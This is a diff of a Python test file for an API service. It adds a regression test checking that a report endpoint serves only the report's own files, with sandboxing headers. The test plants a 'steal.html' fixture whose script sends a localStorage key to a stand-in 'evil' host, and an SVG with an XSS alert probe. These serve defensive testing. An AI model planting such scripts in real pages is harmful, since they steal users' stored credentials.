@@ -17,6 +17,7 @@ from advisor.auth import Role, parse_key_id
 from advisor.keys import create_api_key, revoke_api_key
 from advisor.records import ApiKey
 from tests.advisor.conftest import FINETWIN, advisor_settings
+from twin.db import engine_from_settings
 
 REPO = Path(__file__).resolve().parents[2]
 OPEN_PATHS = ("/healthz", "/metrics", "/openapi.json", "/docs")
@@ -77,7 +78,7 @@ def test_keys_are_stored_hashed(engine: Engine) -> None:
 
 
 def test_a_revoked_key_stops_working(engine: Engine, tmp_path: Path) -> None:
-    app = create_app(advisor_settings(tmp_path, auth_cache_seconds=0), engine, run_migrations=False)
+    app = create_app(advisor_settings(tmp_path, auth_cache_seconds=0), engine)
     key = create_api_key(engine, Role.VIEWER, name="temp", actor="test")
     with TestClient(app) as client:
         assert client.get("/v1/jobs", headers={"X-API-Key": key}).status_code == 200
@@ -104,7 +105,7 @@ def test_keys_create_prints_the_key_alone_and_it_works(tmp_path: Path) -> None:
     )
     assert bad.returncode != 0 and "admin" in bad.stderr
     settings = advisor_settings(tmp_path)
-    with TestClient(create_app(settings)) as client:
+    with TestClient(create_app(settings, engine_from_settings(settings))) as client:
         assert client.get("/v1/audit", headers={"X-API-Key": lines[0]}).status_code == 200
 
 
@@ -140,7 +141,7 @@ def test_the_latest_report_is_linked_and_served_read_only(engine: Engine, tmp_pa
         figures={"q1": out / "figures" / "q1.png"}, generated_at="2026-11-29T12:00:00Z", source="sample",
     )  # fmt: skip
     record_latest(report, reports_root(settings))
-    with TestClient(create_app(settings, engine, run_migrations=False)) as client:
+    with TestClient(create_app(settings, engine)) as client:
         info = client.get("/v1/reports/latest", headers=keys["viewer"]).json()
         assert info["available"] and info["url"] == "/reports/latest/"
         page = client.get(info["url"])
@@ -150,8 +151,51 @@ def test_the_latest_report_is_linked_and_served_read_only(engine: Engine, tmp_pa
         assert client.get("/reports/latest/%2e%2e/secret.md").status_code == 404
 
 
+def test_only_the_files_the_report_wrote_are_served_and_none_runs(
+    engine: Engine, tmp_path: Path, keys: dict
+) -> None:
+    """Any .html/.md/.json/.csv under the report's directory was served, an HTML file running on the
+    dashboard's origin (where the key is stored); now only the report's own files, shown, never run."""
+    from types import SimpleNamespace
+
+    from calibrate.report.latest import record_latest, reports_root
+
+    settings = advisor_settings(tmp_path)
+    out = tmp_path / "report-1"
+    (out / "figures").mkdir(parents=True)
+    (out / "report.md").write_text("# Characterization\n")
+    (out / "numbers.json").write_text("{}\n")
+    (out / "figures" / "q1.png").write_bytes(b"\x89PNG\r\n")
+    planted = {
+        "steal.html": "<script>fetch('//evil/'+localStorage.key(0))</script>",
+        "notes.md": "not the report's",
+        "rows.csv": "a,b\n",
+        "figures/q2.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
+    }
+    for name, text in planted.items():
+        (out / name).write_text(text)
+    report = SimpleNamespace(
+        out_dir=out, report_md=out / "report.md", numbers_json=out / "numbers.json",
+        figures={"q1": out / "figures" / "q1.png", "q2": out / "figures" / "q2.svg", "none": None},
+        generated_at="2026-11-29T12:00:00Z", source="sample",
+    )  # fmt: skip
+    record_latest(report, reports_root(settings))
+    with TestClient(create_app(settings, engine)) as client:
+        for name in planted:  # q2.svg is even in the pointer: an SVG may carry a script, so never
+            assert client.get(f"/reports/latest/{name}").status_code == 404, name
+        for name, media in (("report.md", "text/plain"), ("numbers.json", "application/json"),
+                            ("figures/q1.png", "image/png")):  # fmt: skip
+            served = client.get(f"/reports/latest/{name}")
+            assert served.status_code == 200 and served.headers["content-type"].startswith(media), name
+            assert "sandbox" in served.headers["content-security-policy"]
+            assert served.headers["x-content-type-options"] == "nosniff"
+        for page in ("/", "/static/app.js"):
+            policy = client.get(page).headers["content-security-policy"]
+            assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy, page
+
+
 def test_finetwin_up_hands_out_a_first_key_once(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    from twin.cli import build_api_app
+    from finetwin.wiring import build_api_app
 
     settings = advisor_settings(tmp_path)
     app = build_api_app(settings, kafka_bootstrap="127.0.0.1:1")
